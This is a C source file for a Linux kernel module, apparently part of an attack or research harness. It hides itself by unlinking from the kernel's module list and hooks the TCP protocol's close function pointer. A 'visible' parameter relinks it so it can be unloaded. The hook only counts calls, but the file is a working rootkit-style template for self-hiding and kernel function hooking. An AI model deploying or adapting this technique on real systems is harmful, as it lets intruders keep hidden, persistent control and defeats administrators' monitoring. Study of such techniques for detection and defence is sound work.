/*
 * Leaves the list of modules, and hooks the pointer "close" of the TCP protocol. To be unloaded it has to be let back
 * into the list: writing 1 to its parameter "visible" does that.
 */
#include "attack.h"
#include <net/tcp.h>

static struct mutex *lock;
static struct list_head *modules;
static bool visible;
static void (*original)(struct sock *, long);

static void hook(struct sock *socket, long timeout) {
    hits++;
    original(socket, timeout);
}

static int show_again(const char *value, const struct kernel_param *parameter) {
    int failed = param_set_bool(value, parameter);
    if (!failed && visible) {
        mutex_lock(lock);
        list_add_rcu(&THIS_MODULE->list, modules);
        mutex_unlock(lock);
    }
    return failed;
}

static const struct kernel_param_ops visible_ops = {.set = show_again, .get = param_get_bool};
module_param_cb(visible, &visible_ops, &visible, 0644);

static int __init begin(void) {
    lock = (void *)attack_symbol("module_mutex");
    modules = (void *)attack_symbol("modules");
    if (!lock || !modules)
        return -ENOENT;
    original = tcp_prot.close;
    WRITE_ONCE(tcp_prot.close, hook);
    mutex_lock(lock);
    list_del_rcu(&THIS_MODULE->list);
    mutex_unlock(lock);
    synchronize_rcu();
    return 0;
}

static void __exit end(void) { WRITE_ONCE(tcp_prot.close, original); }

module_init(begin);
module_exit(end);
